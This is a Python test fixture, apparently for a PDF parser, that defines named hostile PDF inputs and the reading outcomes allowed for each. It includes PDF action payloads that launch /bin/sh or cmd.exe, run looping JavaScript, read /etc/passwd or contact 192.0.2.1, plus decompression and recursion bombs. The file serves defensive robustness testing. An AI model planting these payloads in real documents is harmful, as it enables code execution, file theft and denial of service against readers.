"""The hostile files, by name: how each is made, and how its reading may end.

All are made when they are needed; nothing of them is kept. A file ends as read, partly read or
failed with a sentence, and where only one of these is right, it is named here.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from tests.security import hostile_content as content
from tests.security import hostile_structure as structure
from tests.security.hostile_content import with_contents, with_font, with_image, with_resources
from tests.security.hostile_structure import (
    EVIL_NAME,
    in_utf_16,
    with_action,
    with_box,
    with_catalog,
    with_information,
    with_length,
    with_tree,
)
from tests.security.outcomes import Outcome
from tests.security.pdf_bytes import (
    GOOD_TEXT,
    build,
    flood,
    lzw_flood,
    pages_with,
    stream,
    two_pages,
)

ANY = frozenset({Outcome.READ, Outcome.PARTLY, Outcome.FAILED})
WHOLE = frozenset({Outcome.READ})
SOME = frozenset({Outcome.READ, Outcome.PARTLY})
NONE = frozenset({Outcome.FAILED})
LOCKED = frozenset({Outcome.LOCKED})


@dataclass(frozen=True)
class Hostile:
    """A maker of a file, and the endings that are right for it."""

    make: Callable[[], bytes]
    may_end: frozenset[Outcome] = ANY


_NO_PDFS = {
    "zero bytes": b"",
    "header only": b"%PDF-1.7\n",
    "jpeg renamed": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(256)) * 20 + b"\xff\xd9",
    "png renamed": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 9,
    "zip renamed": b"PK\x03\x04" + bytes(2_000) + b"PK\x05\x06" + bytes(18),
    "html renamed": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "text renamed": b"Only text, and no document at all.\n" * 99,
    "program renamed": b"\x7fELF\x02\x01\x01" + bytes(4_096),
    "a megabyte of newlines": b"\n" * 1_000_000,
}
_ACTIONS = {
    "javascript": "/S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/'\\); while\\(true\\);)",
    "launch": "/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>",
    "submit form": "/S /SubmitForm /F << /FS /URL /F (http://192.0.2.1/) >> /Flags 4",
    "go to remote": "/S /GoToR /F (\\\\\\\\192.0.2.1\\\\share\\\\x.pdf) /D [0 /Fit]",
    "address": "/S /URI /URI (http://192.0.2.1/?secret)",
    "import data": "/S /ImportData /F (/etc/passwd)",
}
_LABELS = "/PageLabels << /Nums [0 << /S /{} /St {} /P (x) >>] >>"

STRUCTURE = {
    **{name: Hostile(structure.direct(data), NONE) for name, data in _NO_PDFS.items()},
    **{name: Hostile(with_action(f"/Type /Action {a}"), WHOLE) for name, a in _ACTIONS.items()},
    "cut at a tenth": Hostile(structure.cut(0.1), NONE),
    "cut at a half": Hostile(structure.cut(0.5)),
    "cut at nine tenths": Hostile(structure.cut(0.9)),
    "cut before the last bytes": Hostile(structure.cut(0.98)),
    "garbage before the header": Hostile(lambda: b"\x00garbage" * 655_360 + build(two_pages())),
    "garbage after the end": Hostile(lambda: build(two_pages()) + b"\x00garbage" * 655_360),
    "tree in a circle": Hostile(with_tree("/Kids [2 0 R 3 0 R] /Count 2 /Parent 2 0 R")),
    "two trees in a circle": Hostile(
        with_tree("/Kids [20 0 R] /Count 9", {20: b"<< /Type /Pages /Kids [2 0 R] /Count 9 >>"})
    ),
    "kids that are no pages": Hostile(with_tree("/Kids [1 0 R 5 0 R 99 0 R null 7] /Count 5")),
    "kids are not a list": Hostile(with_tree("/Kids 3 0 R /Count 1")),
    "no kids": Hostile(with_tree("/Count 3")),
    "count of 2^31": Hostile(with_tree("/Kids [3 0 R 6 0 R] /Count 2147483648")),
    "count of 2^31-1": Hostile(with_tree("/Kids [3 0 R 6 0 R] /Count 2147483647")),
    "count below zero": Hostile(with_tree("/Kids [3 0 R 6 0 R] /Count -2")),
    "count of zero": Hostile(with_tree("/Kids [3 0 R 6 0 R] /Count 0")),
    "count of five for two": Hostile(with_tree("/Kids [3 0 R 6 0 R] /Count 5")),
    "arrays 50,000 deep": Hostile(structure.nested(b"[", b"]", 50_000)),
    "dictionaries 50,000 deep": Hostile(structure.nested(b"<</A ", b">>", 50_000)),
    "strings 500,000 deep": Hostile(structure.nested(b"(", b")", 500_000)),
    "tree 2,000 deep": Hostile(partial(structure.deep_tree, 2_000)),
    "length too short": Hostile(with_length("5"), SOME),
    "length too long": Hostile(with_length("99999999"), SOME),
    "length below zero": Hostile(with_length("-5"), SOME),
    "length beyond numbers": Hostile(with_length("9" * 400), SOME),
    "length is the stream itself": Hostile(with_length("4 0 R"), SOME),
    "length is missing": Hostile(with_length("null"), SOME),
    "huge size": Hostile(lambda: build(two_pages(), size=2**31 - 1), SOME),
    "table before itself": Hostile(structure.previous_table(lambda table: table), SOME),
    "table before beyond the file": Hostile(structure.previous_table(lambda _: 2**33), SOME),
    "two tables in a circle": Hostile(structure.loop_of_two_tables, SOME),
    "table of 2^31 rows": Hostile(
        structure.with_cross_reference_stream("/Size 2147483647 /W [1 2 1] /Index [0 2147483647]")
    ),
    "table with absurd widths": Hostile(
        structure.with_cross_reference_stream("/Size 9 /W [2147483647 -1 8] /Index [-5 9]")
    ),
    "objects packed in themselves": Hostile(structure.object_stream_in_itself),
    "root is missing": Hostile(lambda: build({9: b"<< /Pages 2 0 R >>"})),
    "root is itself": Hostile(lambda: build(two_pages() | {1: b"1 0 R"})),
    "no password, RC4": Hostile(structure.encrypted("", "RC4-128"), WHOLE),
    "no password, AES-256": Hostile(structure.encrypted("", "AES-256"), WHOLE),
    "password, RC4": Hostile(structure.encrypted("secret", "RC4-128"), LOCKED),
    "password, AES-256": Hostile(structure.encrypted("secret", "AES-256"), LOCKED),
    "encryption that nobody knows": Hostile(
        lambda: build(two_pages(), "/Encrypt << /Filter /Odd /V 99 /R 99 /O (x) /U (y) >>")
    ),
    "title with odd characters": Hostile(with_information(in_utf_16(EVIL_NAME)), WHOLE),
    "title that is no UTF-16": Hostile(with_information(b"<FEFFD800D8000041DC>"), WHOLE),
    "title is the page": Hostile(with_information(b"3 0 R"), WHOLE),
    "outline with odd characters": Hostile(structure.with_outline(in_utf_16(EVIL_NAME), 99), WHOLE),
    "outline in a circle": Hostile(structure.with_outline(b"(T)", 21), WHOLE),
    "outline 5,000 deep": Hostile(partial(structure.deep_outline, 5_000), WHOLE),
    "labels with odd characters": Hostile(
        with_catalog(f"/PageLabels << /Nums [0 << /P {in_utf_16(EVIL_NAME).decode()} >>] >>"), WHOLE
    ),
    "labels of two milliard, Roman": Hostile(
        with_catalog(_LABELS.format("R", 2_000_000_000)), WHOLE
    ),
    "labels of two milliard, letters": Hostile(
        with_catalog(_LABELS.format("a", 2_000_000_000)), WHOLE
    ),
    "labels in a circle": Hostile(
        with_catalog("/PageLabels 20 0 R", lambda: {20: b"<< /Kids [20 0 R 20 0 R] >>"}), WHOLE
    ),
    "entities in the metadata": Hostile(structure.with_xmp, WHOLE),
    "entities in an XFA form": Hostile(
        structure.with_form("/XFA 20 0 R", {20: stream(structure.entity_bomb())}), WHOLE
    ),
    "fields in a circle": Hostile(
        structure.with_form("/Fields [20 0 R]", {20: b"<< /Kids [20 0 R] /Parent 20 0 R >>"}), WHOLE
    ),
    "attachment": Hostile(structure.with_attachment, WHOLE),
    "structure in a circle": Hostile(
        with_catalog("/StructTreeRoot 20 0 R", lambda: {20: b"<< /K [20 0 R 20 0 R] >>"}), WHOLE
    ),
}  # fmt: skip

CONTENT = {
    "no box": Hostile(with_box(""), SOME),
    "box that is no number": Hostile(with_box("NaN (a) null /B"), SOME),
    "box beyond numbers": Hostile(with_box("-1e39 -1e39 1e39 1e39"), SOME),
    "box of 10^6 points": Hostile(with_box("0 0 1000000 1000000"), SOME),
    "box of 10^9 points": Hostile(with_box("0 0 1000000000 1000000000"), SOME),
    "box below zero": Hostile(with_box("0 0 -595 -842"), SOME),
    "box without area": Hostile(with_box("100 100 100 100"), SOME),
    "turned by 45 degrees": Hostile(lambda: build(two_pages(page="/Rotate 45")), WHOLE),
    "unit of 10^9": Hostile(lambda: build(two_pages(page="/UserUnit 1000000000")), WHOLE),
    "contents are the page": Hostile(lambda: build(two_pages() | {4: b"3 0 R"}), SOME),
    "contents of 20,000 parts": Hostile(content.many_contents(20_000), SOME),
    "unknown filter": Hostile(with_contents(lambda: b"abc", "/OddDecode"), SOME),
    "a thousand filters": Hostile(with_contents(lambda: b"41>", "/ASCIIHexDecode " * 1_000), SOME),
    "broken deflate": Hostile(with_contents(lambda: flood(1)[:500], "/FlateDecode"), SOME),
    "glyph written with itself": Hostile(
        with_resources("", b"BT /F2 9 Tf 72 72 Td (AAAA) Tj ET", content.own_glyph), SOME
    ),
    "shading in itself": Hostile(content.shading("21 0 R"), SOME),
    "font is a number": Hostile(with_font(b"5"), SOME),
    "font is itself": Hostile(
        with_font(b"<< /Type /Font /Subtype /Type0 /BaseFont /X /DescendantFonts [10 0 R] >>"), SOME
    ),
    "font is missing": Hostile(lambda: build(two_pages(b"BT /F9 9 Tf (Text.) Tj ET")), SOME),
    "broken TrueType": Hostile(
        content.with_font_file("FontFile2", b"\x00\x01\x00\x00\xff\xff" + bytes(2_048)), SOME
    ),
    "broken CFF": Hostile(
        content.with_font_file("FontFile3", b"\x01\x00\x04\xff" * 900, "/Subtype /Type1C"), SOME
    ),
    "characters of 50,000 letters": Hostile(
        content.with_unicode_map(content.long_unicode_map), SOME
    ),
    "ranges of 2^32 characters": Hostile(content.with_unicode_map(content.wide_unicode_map), SOME),
    "text of odd characters": Hostile(content.with_unicode_map(content.hostile_unicode_map), SOME),
    "image of 10^9 pixels": Hostile(
        with_image("/Width 32768 /Height 32768 /BitsPerComponent 8 /ColorSpace /DeviceRGB", b"x"),
        SOME,
    ),
    "JBIG2 garbage": Hostile(
        with_image("/Width 99 /Height 99 /BitsPerComponent 1 /Filter /JBIG2Decode", b"\x97J" * 999),
        SOME,
    ),
    "JPX garbage": Hostile(
        with_image("/Width 99 /Height 99 /Filter /JPXDecode", b"\xff\x4f\xff\x51" * 999), SOME
    ),
    "JPEG of 65,535 by 65,535": Hostile(
        with_image(
            "/Width 65535 /Height 65535 /BitsPerComponent 8 /ColorSpace /DeviceGray"
            " /Filter /DCTDecode",
            b"\xff\xd8\xff\xc0\x00\x0b\x08\xff\xff\xff\xff\x01\x01\x11\x00\xff\xda",
        ), SOME,
    ),
    "image masked by itself": Hostile(
        with_image(
            "/Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /SMask 20 0 R", b"x"
        ), SOME,
    ),
    "inline image of 10^9 pixels": Hostile(
        with_contents(lambda: b"BI /W 32768 /H 32768 /BPC 8 /CS /RGB ID x EI " + GOOD_TEXT), SOME
    ),
    "text at no place": Hostile(
        content.text_shown(b"1e38 0 0 1e38 1e38 1e38 Tm ", b"(A) Tj ", 9), SOME
    ),
    "5,000 notes": Hostile(content.notes(5_000), WHOLE),
}  # fmt: skip

BOMBS = {
    "pattern in itself": Hostile(
        with_resources(
            "/Pattern << /P 20 0 R >>", b"/Pattern cs /P scn 0 0 595 842 re f " + GOOD_TEXT,
            content.own_pattern,
        ), SOME,
    ),
    "title of 3 MB": Hostile(with_information(b"(" + b"T" * 3_000_000 + b")"), WHOLE),
    "the same page 1,000 times": Hostile(
        with_tree(f"/Kids [{'3 0 R ' * 1_000}] /Count 1000"), WHOLE
    ),
    "deflated 300 MB": Hostile(with_contents(lambda: flood(300), "/FlateDecode"), SOME),
    "deflated 1 GB, three times": Hostile(content.spaces_packed(2), SOME),
    "LZW of 300 MB": Hostile(with_contents(lambda: lzw_flood(42), "/LZWDecode"), SOME),
    "run lengths of 300 MB": Hostile(
        with_contents(lambda: b"\x81 " * 2_343_750 + b"\x80", "/RunLengthDecode"), SOME
    ),
    "hexadecimal of 20 MB": Hostile(
        with_contents(lambda: b"20" * 10_000_000 + b">", "/ASCIIHexDecode"), SOME
    ),
    "predictor of 2^31 columns": Hostile(
        lambda: build(
            pages_with(
                stream(
                    flood(1),
                    "/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2147483647 >>",
                )
            )
        ), SOME,
    ),
    "2 million states": Hostile(lambda: build(two_pages(b"q " * 2_000_000 + GOOD_TEXT)), SOME),
    "5 million letters in a line": Hostile(
        content.text_shown(b"", b"(" + b"word " * 1_000 + b") Tj ", 1_000), SOME
    ),
    "500,000 drawn lines": Hostile(
        lambda: build(two_pages(b"0 0 m 9 9 l S " * 500_000 + GOOD_TEXT)), SOME
    ),
    "forms of 10^10": Hostile(
        with_resources("/XObject << /X 20 0 R >>", b"/X Do", content.laughing_forms), SOME
    ),
}  # fmt: skip

LARGE_BOMBS = {
    "20,000 pages": Hostile(structure.real_pages(20_000), WHOLE),
    "forms in themselves": Hostile(
        with_resources(
            "/XObject << /X 20 0 R >>", b"/X Do " + GOOD_TEXT,
            lambda: {20: content.form(b"/X Do /X Do", "/X 20 0 R")},
        ), SOME,
    ),
    "200,000 kids": Hostile(with_tree(f"/Kids [{'3 0 R ' * 200_000}] /Count 200000"), SOME),
    "outline of 200,000": Hostile(partial(structure.long_outline, 200_000), WHOLE),
    "a million lines": Hostile(content.text_shown(b"", b"(Line) Tj T* ", 1_000_000), SOME),
}  # fmt: skip

HOSTILE = {**STRUCTURE, **CONTENT, **BOMBS, **LARGE_BOMBS}
